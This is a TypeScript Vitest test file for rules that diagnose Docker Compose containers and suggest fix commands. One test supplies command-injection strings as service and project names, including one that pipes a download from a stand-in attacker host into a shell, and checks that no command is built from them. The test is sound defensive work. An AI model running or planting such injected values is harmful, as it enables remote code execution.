import { describe, expect, it } from 'vitest';
import { containerFindings } from '../../../../src/main/core/findings/container.rules.ts';
import { container, service, target } from './builders.ts';

describe('containerFindings', () => {
  it('reports a non-zero exit as an error with a start-container action', () => {
    const api = service({
      name: 'api',
      container: container({ name: 'shop-api-1', state: 'exited', exitCode: 137, status: 'Exited (137)' }),
    });
    const [f, ...rest] = containerFindings([api]);
    expect(rest).toEqual([]);
    expect(f).toMatchObject({ id: 'CONTAINER_EXITED', severity: 'error', subject: 'shop/api' });
    expect(f?.summary).toContain('137');
    expect(f?.fix.action).toEqual({ kind: 'start-container', params: { container: 'shop-api-1' } });
    expect(f?.evidence[0]).toMatchObject({ kind: 'container', ok: false, error: { code: 'EXITED_137' } });
  });

  it('reports a clean exit as a warning only when another service depends on it', () => {
    const db = service({ name: 'db', container: container({ name: 'shop-db-1', state: 'exited', exitCode: 0 }) });
    const job = service({ name: 'migrate', container: container({ name: 'shop-migrate-1', state: 'exited', exitCode: 0 }) });
    const web = service({ name: 'web', dependsOn: ['db'], container: container({ name: 'shop-web-1' }) });
    const findings = containerFindings([db, job, web]);
    expect(findings).toHaveLength(1);
    expect(findings[0]).toMatchObject({ id: 'CONTAINER_EXITED', severity: 'warning', subject: 'shop/db' });
    expect(findings[0]?.cause).toContain('shop/web');
  });

  it('counts a URL target on an alias as a dependency', () => {
    const orch = service({
      name: 'orchestrator',
      container: container({
        name: 'orch-1',
        state: 'exited',
        exitCode: 0,
        networks: [{ name: 'n', aliases: ['orchestrator-service'], ipAddress: '' }],
      }),
    });
    const dev = service({ name: 'dev', role: 'devcontainer', project: 'dev', targets: [target('http://orchestrator-service:8006')] });
    expect(containerFindings([orch, dev])[0]).toMatchObject({ id: 'CONTAINER_EXITED', severity: 'warning' });
  });

  it('reports a restarting container with its restart count', () => {
    const api = service({ name: 'api', container: container({ name: 'shop-api-1', state: 'restarting', restartCount: 7, exitCode: 1 }) });
    const [f] = containerFindings([api]);
    expect(f).toMatchObject({ id: 'CONTAINER_RESTARTING', severity: 'error' });
    expect(f?.summary).toContain('7 restarts');
  });

  it('reports a running container whose HEALTHCHECK fails', () => {
    const api = service({
      name: 'api',
      container: container({ name: 'shop-api-1', health: 'unhealthy', status: 'Up 1 minute (unhealthy)' }),
    });
    expect(containerFindings([api])).toMatchObject([{ id: 'CONTAINER_UNHEALTHY', severity: 'error' }]);
  });

  it('reports a declared service without a container, with the compose command', () => {
    const [f] = containerFindings([service({ name: 'worker' })]);
    expect(f).toMatchObject({ id: 'SERVICE_NOT_CREATED', severity: 'warning' });
    expect(f?.fix.command).toContain('up -d worker');
    expect(f?.fix.command).toBe('docker compose -p shop up -d worker');
    expect(f?.fix.action).toEqual({ kind: 'create-service', params: { project: 'shop', service: 'worker' } });
  });

  it('offers no command for a service or project name compose would refuse, and says why', () => {
    for (const over of [{ name: 'db;curl${IFS}evil.example|sh' }, { name: 'db', project: '$(id)' }, { name: '-d' }]) {
      const [f] = containerFindings([service(over)]);
      expect(f).toMatchObject({ id: 'SERVICE_NOT_CREATED' });
      expect(f?.fix.description).toContain('is not valid');
      expect(f?.fix.command).toBeUndefined();
      expect(f?.fix.action).toBeUndefined();
    }
  });

  it('reads the logs first of a restarting container (look) and restarts it once fixed (action)', () => {
    const api = service({ name: 'api', container: container({ name: 'shop-api-1', state: 'restarting', restartCount: 2, exitCode: 1 }) });
    const [f] = containerFindings([api]);
    expect(f?.fix.look).toEqual({ kind: 'show-logs', params: { container: 'shop-api-1', tail: 50 } });
    expect(f?.fix.action).toEqual({ kind: 'restart-container', params: { container: 'shop-api-1' } });
    expect(f?.fix.command).toBe('docker logs --tail 50 shop-api-1');
    expect(f?.fix.description).toContain('`docker logs --tail 50 shop-api-1`');
  });

  it('says nothing about healthy running containers', () => {
    expect(containerFindings([service({ name: 'api', container: container({ name: 'a', health: 'healthy' }) })])).toEqual([]);
  });
});
